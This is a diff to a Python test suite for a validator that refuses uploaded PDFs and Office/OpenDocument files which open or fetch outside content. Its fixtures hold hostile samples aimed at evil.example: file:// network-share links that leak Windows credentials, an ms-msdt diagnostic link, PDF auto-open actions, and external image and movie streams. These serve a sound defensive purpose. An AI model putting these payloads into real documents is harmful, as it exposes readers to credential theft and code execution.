@@ -261,6 +261,35 @@ def test_a_pdfs_properties_are_checked_and_a_script_in_it_is_refused(fixture_con
         assert "roadmap/aineistot/koe/malli.pdf" in problem.message and HETU not in problem.message
 
 
+_LINK_ANNOTATION = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (%s) >> >>"
+
+
+@pytest.mark.parametrize(("case", "catalog", "extra"), [
+    # A link to a network share: opening it hands the reader's Windows credentials to the server.
+    ("file-share-link", b"", (_LINK_ANNOTATION % b"file://evil.example/jako/seuranta",)),
+    ("program-link", b"", (_LINK_ANNOTATION % b"ms-msdt:/id PCWDiagnostic",)),
+    # An address the reader opens as the document opens, with no click.
+    ("address-on-open", b"/OpenAction << /S /URI /URI (https://evil.example/avattu) >> ", ()),
+    ("address-on-open-by-reference", b"/AA << /WC 6 0 R >> ", (b"<< /S /URI /URI (https://evil.example/suljettu) >>",)),
+    # An image whose data comes from an address.
+    ("stream-from-outside", b"", (b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray "
+                                  b"/BitsPerComponent 8 /F (https://evil.example/kuva) /Length 0 >>\nstream\n\nendstream",)),
+    ("movie", b"", (b"<< /Type /Annot /Subtype /Movie /Rect [0 0 1 1] /Movie << /F (https://evil.example/m.mov) >> >>",)),
+])
+def test_a_pdf_that_opens_or_fetches_something_outside_it_is_refused(fixture_content, case, catalog, extra):
+    path = fixture_content / "aineistot" / "koe" / "malli.pdf"
+    path.write_bytes(pdf_bytes(DOCUMENTS["koe/malli.pdf"][1], catalog=catalog, extra=extra))
+    problem = _one(_problems(fixture_content), "bad-material")
+    assert "roadmap/aineistot/koe/malli.pdf" in problem.message and "PDF" in problem.message
+
+
+def test_a_pdfs_links_to_web_pages_are_not_refused(fixture_content):
+    path = fixture_content / "aineistot" / "koe" / "malli.pdf"
+    path.write_bytes(pdf_bytes(DOCUMENTS["koe/malli.pdf"][1], extra=(
+        _LINK_ANNOTATION % b"https://www.example.org/malli", _LINK_ANNOTATION % b"http://www.example.org/2005")))
+    assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/malli.pdf"]
+
+
 def test_a_password_inside_a_document_is_refused(fixture_content):
     write_document(fixture_content / "aineistot" / "koe" / "muistio.txt", "txt", ["Palaverin jälkeen:", "Salasana: Kesa2024talvi"])
     problem = _one(_problems(fixture_content), "sensitive")
@@ -532,6 +561,12 @@ _RUNNING_OR_FETCHING = {
                           b'ContentType="application/vnd.ms-excel.macrosheet+xml"/>'),
     "powerpoint-program": ("koe/koulutus.pptx", "pptx", "ppt/slides/slide1.xml", b"<a:p><a:r>",
                            b'<a:rPr><a:hlinkClick r:id="" action="ppaction://program"/></a:rPr>'),
+    # A hyperlink to a network share: opening it hands the reader's Windows credentials to the server.
+    "word-link-to-share": ("koe/ohje.docx", "docx", "word/_rels/document.xml.rels", b'package/2006/relationships">',
+                           f'<Relationship Id="rId99" Type="{_RELATIONSHIPS}/hyperlink" Target="file://evil.example/jako/x.docx" '
+                           f'TargetMode="External"/>'.encode()),
+    "opendocument-link-to-share": (_ODF_DOCUMENT, "odt", "content.xml", b"<office:text>",
+                                   b'<text:p><text:a xlink:href="file://evil.example/jako/x.odt">x</text:a></text:p>'),
     "opendocument-linked-section": (_ODF_DOCUMENT, "odt", "content.xml", b"<office:text>",
                                     b'<text:section text:name="S"><text:section-source xlink:href="https://evil.example/x.odt"/>'
                                     b"</text:section>"),
@@ -557,14 +592,19 @@ def test_an_office_file_whose_field_or_formula_runs_a_program_or_fetches_is_refu
 
 
 def test_ordinary_fields_and_formulas_are_not_refused(fixture_content):
-    """A page number, a hyperlink field, a sum and a sheet name with a bar in quotes pass."""
+    """A page number, a hyperlink field, a sum and a sheet name with a bar in quotes pass, and so do
+    links to web pages and to a place in the document."""
     docx = _rezipped("docx", "koe/ohje.docx", _in_part("word/document.xml", b"<w:body>", b"<w:p>" + _FIELD_BEGIN
                      + b"<w:r><w:instrText> PAGE </w:instrText></w:r>" + _FIELD_END + b"</w:p>"
                      b'<w:p><w:fldSimple w:instr=\' HYPERLINK "https://www.example.org/" \'><w:r><w:t>k</w:t></w:r></w:fldSimple></w:p>'))
     xlsx = _rezipped("xlsx", "koe/kysely.xlsx", _in_part("xl/worksheets/sheet1.xml", b"</is></c>",
                      b"""<c r="B1"><f>SUM('Vastaukset | 2020'!A1:A3)&amp;"a|b"</f><v>0</v></c>"""))
+    odt = _rezipped("odt", _ODF_DOCUMENT, _in_part("content.xml", b"<office:text>",
+                    b'<text:p><text:a xlink:href="https://www.example.org/">x</text:a>'
+                    b'<text:a xlink:href="#Otsikko">y</text:a></text:p>'))
     (fixture_content / "aineistot" / "koe" / "ohje.docx").write_bytes(docx)
     (fixture_content / "aineistot" / "koe" / "kysely.xlsx").write_bytes(xlsx)
+    (fixture_content / "aineistot" / _ODF_DOCUMENT).write_bytes(odt)
     assert load_roadmap(fixture_content, fixture_content.parent).material_files["koe/kysely.xlsx"]
 
 
